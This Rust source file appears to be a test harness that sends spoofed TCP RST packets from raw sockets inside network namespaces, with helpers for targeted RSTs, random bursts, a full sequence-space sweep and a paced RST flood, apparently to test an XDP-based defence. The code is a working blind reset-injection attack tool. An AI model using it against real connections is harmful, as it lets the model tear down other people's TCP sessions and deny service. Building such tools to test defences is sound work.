//! Spoofed RSTs from raw sockets, as a blind attacker sends them. Packets
//! are built with etherparse; the kernel adds nothing (`IPPROTO_RAW`
//! implies IP_HDRINCL, for IPv4 and IPv6 alike).

use std::{
    net::SocketAddr,
    sync::{
        atomic::{AtomicBool, Ordering},
        Arc,
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use etherparse::PacketBuilder;
use rand::Rng;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::netns::Netns;

/// A raw socket for one address family. Create it on a thread inside the
/// attacker's namespace.
pub struct Spoofer {
    sock: Socket,
    v6: bool,
}

impl Spoofer {
    pub fn new(v6: bool) -> Spoofer {
        let domain = if v6 { Domain::IPV6 } else { Domain::IPV4 };
        let sock = Socket::new(domain, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))
            .expect("a raw socket (needs CAP_NET_RAW)");
        Spoofer { sock, v6 }
    }

    /// Sends a RST (with ACK when `ack` is some) from `src` to `dst`.
    pub fn rst(&self, src: SocketAddr, dst: SocketAddr, seq: u32, ack: Option<u32>) {
        let pkt = rst_packet(src, dst, seq, ack);
        let to = SockAddr::from(SocketAddr::new(dst.ip(), 0));
        assert_eq!(self.v6, dst.is_ipv6(), "address family");
        self.sock.send_to(&pkt, &to).expect("sending a spoofed RST");
    }
}

/// An IP packet carrying a RST.
pub fn rst_packet(src: SocketAddr, dst: SocketAddr, seq: u32, ack: Option<u32>) -> Vec<u8> {
    let ip = match (src, dst) {
        (SocketAddr::V4(s), SocketAddr::V4(d)) => {
            PacketBuilder::ipv4(s.ip().octets(), d.ip().octets(), 64)
        }
        (SocketAddr::V6(s), SocketAddr::V6(d)) => {
            PacketBuilder::ipv6(s.ip().octets(), d.ip().octets(), 64)
        }
        _ => panic!("mixed address families"),
    };
    let mut tcp = ip.tcp(src.port(), dst.port(), seq, 0).rst();
    if let Some(a) = ack {
        tcp = tcp.ack(a);
    }
    let mut pkt = Vec::with_capacity(tcp.size(0));
    tcp.write(&mut pkt, &[]).expect("building a RST");
    pkt
}

/// Packets sent back to back before a 1 ms pause: a veth ring holds 256,
/// and what overflows it never reaches XDP (or anything else).
const BURST: u32 = 64;

/// Sends `n` RST|ACKs at random sequence (and ACK) numbers from `src` to
/// `dst`, from a raw socket in `ns`, then lets them land.
pub fn random_rsts(ns: &Netns, src: SocketAddr, dst: SocketAddr, n: u32) {
    ns.run(move || {
        let s = Spoofer::new(dst.is_ipv6());
        let mut rng = rand::thread_rng();
        for i in 0..n {
            s.rst(src, dst, rng.gen(), Some(rng.gen()));
            if i % BURST == BURST - 1 {
                thread::sleep(Duration::from_millis(1));
            }
        }
    });
    thread::sleep(Duration::from_millis(300));
}

/// Sends one RST (ACK `ack`) per sequence number in `seqs`.
pub fn rsts_at(ns: &Netns, src: SocketAddr, dst: SocketAddr, seqs: Vec<u32>, ack: Option<u32>) {
    ns.run(move || {
        let s = Spoofer::new(dst.is_ipv6());
        for (i, seq) in seqs.into_iter().enumerate() {
            s.rst(src, dst, seq, ack);
            if i as u32 % BURST == BURST - 1 {
                thread::sleep(Duration::from_millis(1));
            }
        }
    });
    thread::sleep(Duration::from_millis(300));
}

/// Sweeps the whole sequence space with RSTs `step` apart (one receive
/// window apart, as a blind attacker against a stack that accepts any
/// in-window RST would). Returns how many were sent.
pub fn sweep(ns: &Netns, src: SocketAddr, dst: SocketAddr, step: u32, start: u32) -> u64 {
    assert!(step >= 1024, "a sweep {step} apart would be far too long");
    ns.run(move || {
        let s = Spoofer::new(dst.is_ipv6());
        let mut sent = 0u64;
        let mut seq = start;
        for _ in 0..(u64::from(u32::MAX) / u64::from(step) + 1) {
            s.rst(src, dst, seq, None);
            seq = seq.wrapping_add(step);
            sent += 1;
            if sent.is_multiple_of(u64::from(BURST)) {
                thread::sleep(Duration::from_micros(500));
            }
        }
        sent
    })
}

/// A paced flood of spoofed RSTs (`per_tick` every 100 ms) from `ns`, until
/// stopped or `max_secs` pass.
pub struct Flood {
    stop: Arc<AtomicBool>,
    handle: JoinHandle<u64>,
}

impl Flood {
    pub fn start(
        ns: &Netns,
        src: SocketAddr,
        dst: SocketAddr,
        per_tick: u32,
        max_secs: u64,
    ) -> Flood {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = Arc::clone(&stop);
        let handle = ns.spawn(move || {
            let s = Spoofer::new(dst.is_ipv6());
            let mut rng = rand::thread_rng();
            let deadline = Instant::now() + Duration::from_secs(max_secs);
            let mut sent = 0u64;
            while !flag.load(Ordering::Relaxed) && Instant::now() < deadline {
                for _ in 0..per_tick {
                    s.rst(src, dst, rng.gen(), Some(rng.gen()));
                    sent += 1;
                }
                thread::sleep(Duration::from_millis(100));
            }
            sent
        });
        Flood { stop, handle }
    }

    /// Stops it; returns how many RSTs it sent.
    pub fn stop(self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.handle.join().expect("the flood thread panicked")
    }
}
